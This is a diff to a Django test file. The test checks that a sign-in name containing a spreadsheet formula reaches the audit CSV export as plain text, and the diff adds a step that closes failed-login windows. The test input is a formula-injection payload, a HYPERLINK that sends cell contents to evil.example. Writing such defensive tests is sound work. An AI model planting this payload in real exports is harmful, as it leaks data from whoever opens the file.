@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 
 import pytest
@@ -10,8 +11,9 @@ from django.contrib.auth.models import Permission, User
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import models
 from django.test import Client
+from django.utils import timezone
 
-from backbone.governance import services
+from backbone.governance import auditing, services
 from backbone.governance.models import AuditEvent
 from backbone.identity.models import LinkageRun, ReviewPair
 from backbone.intake import services as intake
@@ -134,6 +136,8 @@ def test_a_formula_as_sign_in_name_reaches_the_audit_csv_as_text_and_still_verif
     """An anonymous visitor picks the name; the steward opens the export in a spreadsheet."""
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     Client().post("/login/", {"username": formula, "password": "wrong"})
+    # Failed sign-ins are counted per address and window; the closed window is one event.
+    auditing.close_sign_in_windows(timezone.now() + dt.timedelta(days=1))
     response = steward.get("/governance/audit.csv", {"action": "login_failed"})
     rows = list(csv.reader(io.StringIO(response.content.decode())))
     header, cells = rows[0], rows[-1]
